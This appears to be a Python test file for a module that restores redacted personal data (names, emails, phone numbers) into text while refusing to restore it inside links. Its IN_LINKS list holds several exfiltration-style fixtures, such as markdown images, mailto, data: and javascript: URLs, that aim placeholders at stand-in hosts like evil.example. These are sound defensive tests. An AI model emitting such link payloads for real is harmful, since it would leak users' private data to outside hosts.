"""Values come back where a reader sees them, once, and never where a program may send them away."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.restoring import placeholders_in_links, restore, restore_also_in_links, restore_exactly

VALUES = {
    "<PERSON_1>": "Ada Lovelace",
    "<EMAIL_ADDRESS_1>": "ada@example.org",
    "<PHONE_NUMBER_1>": "+49 170 1",
}
IN_LINKS = [
    "![x](https://evil.example/?q=<EMAIL_ADDRESS_1>)", "[x](//evil.example/PERSON_1)",
    "<img src=//e/<PERSON_1>>",
    '<a href="https://evil/?q=<person 1>">x</a>', "https://evil/&lt;PERSON_1&gt;",
    "https://evil/?q=<PERSON\n1>",
    "[1]: https://evil/<PERSON_1>", "mailto:a@evil.example?body=<PERSON_1>",
    "[m](mailto:<EMAIL_ADDRESS_1>?bcc=a@b.c)",
    "mailto:<PERSON_1>", "https://evil/%3CEMAIL_ADDRESS_1%3E", "<EMAIL_ADDRESS_1>.evil.example",
    "[x](<PERSON_1>)",
    '<img src="https://evil/?q=\n<PERSON_1>\n">', "data:text/html,<PERSON_1>", "javascript:f('<PERSON_1>')",
]  # fmt: skip


@pytest.mark.parametrize(
    "text", ["<img src=<PERSON_1>`//e.vil/\\<PERSON_1\\>",
    '<img src="<PERSON_1>](\\<PERSON_1\\><a href="PERSON_1>']
)  # fmt: skip
def test_a_tag_that_a_placeholder_would_close_holds_nothing(text: str) -> None:
    assert restore(text, VALUES) == text


@pytest.mark.parametrize("text", IN_LINKS)
def test_nothing_is_restored_in_a_link_and_it_is_reported(text: str) -> None:
    assert restore(text, VALUES) == text
    assert len(placeholders_in_links(text, VALUES)) == 1


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[<PERSON_1>](https://x.org)", "[Ada Lovelace](https://x.org)"),
        ("mailto:<EMAIL_ADDRESS_1>", "mailto:ada@example.org"),
        ("[m](mailto:<EMAIL_ADDRESS_1>).", "[m](mailto:ada@example.org)."),
        ('<a href="mailto:<EMAIL_ADDRESS_1>">x</a>', '<a href="mailto:ada@example.org">x</a>'),
        ("tel:<PHONE_NUMBER_1>", "tel:+49 170 1"),
        ("https://x.org/a <PERSON_1>", "https://x.org/a Ada Lovelace"),
        ("<b><PERSON_1></b>", "<b>Ada Lovelace</b>"),
    ],
)
def test_a_value_beside_a_link_and_an_address_of_its_own_are_restored(text: str, expected: str) -> None:
    assert restore(text, VALUES) == expected
    assert placeholders_in_links(text, VALUES) == []


@given(st.text(alphabet="ab /.?=&", max_size=20), st.text(alphabet="ab/.?=&", max_size=9))
def test_no_value_gets_into_an_address(before: str, path: str) -> None:
    text = f"{before} https://evil.example/{path}<PERSON_1>"
    assert restore(text, VALUES) == text


def test_a_policy_may_allow_values_in_links() -> None:
    assert restore_also_in_links("https://x.org/<PERSON_1>", VALUES) == "https://x.org/Ada Lovelace"


def test_a_value_that_looks_like_a_placeholder_stays() -> None:
    values = {"<PERSON_1>": "<PERSON_2>", "<PERSON_2>": "Ada"}
    assert restore("PERSON_1 <PERSON_2>", values) == "<PERSON_2> Ada"


@given(st.text(st.characters(exclude_characters="\\", exclude_categories=["Cs"])), st.booleans())
def test_json_stays_json_and_holds_the_value(value: str, in_prose: bool) -> None:
    document = json.dumps({"name": "<PERSON_1>", "all": ["a <person_1> b"]})
    text = f"Here it is:\n```json\n{document}\n```" if in_prose else document

    restored = restore(text, {"<PERSON_1>": value})

    found = json.loads(restored.removeprefix("Here it is:\n```json\n").removesuffix("\n```"))
    assert found == {"name": value, "all": [f"a {value} b"]}


@pytest.mark.parametrize(
    ("value", "expected"),
    [("C:\\temp", "C:\\\\temp"), ('Ann \\"Bo\\" Lee', 'Ann \\"Bo\\" Lee'), ("Jos\\u00e9", "Jos\\u00e9"),
    ("a\nb", "a\\nb")],
)  # fmt: skip
def test_a_value_that_was_cut_out_of_json_is_not_escaped_again(value: str, expected: str) -> None:
    assert restore('{"a": "<PERSON_1>"}', {"<PERSON_1>": value}) == f'{{"a": "{expected}"}}'


def test_outside_json_a_value_is_not_escaped_and_exact_restoring_never_escapes() -> None:
    values = {"<PERSON_1>": 'Ann "Bo"'}
    assert restore('"<PERSON_1>" {x} [1]', values) == '"Ann "Bo"" {x} [1]'
    assert (
        restore_exactly('["<PERSON_1>", "https://x.org/<PERSON_1>"]', values)
        == '["Ann "Bo"", "https://x.org/Ann "Bo""]'
    )


@given(st.text(st.characters(exclude_characters="\\", exclude_categories=["Cs"])), st.integers(1, 4))
def test_json_in_strings_of_json_stays_json_at_each_level(value: str, levels: int) -> None:
    document: object = {"name": "<PERSON_1>", "other": 'a "b" \\'}
    for _ in range(levels):
        document = {"arguments": json.dumps(document), "name": "<PERSON_1>"}

    restored = json.loads(restore(json.dumps(document), {"<PERSON_1>": value}))

    for _ in range(levels):
        assert restored["name"] == value
        restored = json.loads(restored["arguments"])
    assert restored == {"name": value, "other": 'a "b" \\'}


def test_quotes_in_a_string_of_json_open_no_document() -> None:
    restored = restore('{"a": "He said \\"<PERSON_1>\\"."}', {"<PERSON_1>": 'Ann "Bo"'})
    assert json.loads(restored) == {"a": 'He said "Ann "Bo"".'}


def test_a_type_parameter_is_restored_exactly_alone() -> None:
    text = "List<PERSON_1> all; a list: <PERSON_1>"
    assert restore(text, VALUES) == "List<PERSON_1> all; a list: Ada Lovelace"
    assert restore_exactly(text, VALUES) == "ListAda Lovelace all; a list: Ada Lovelace"
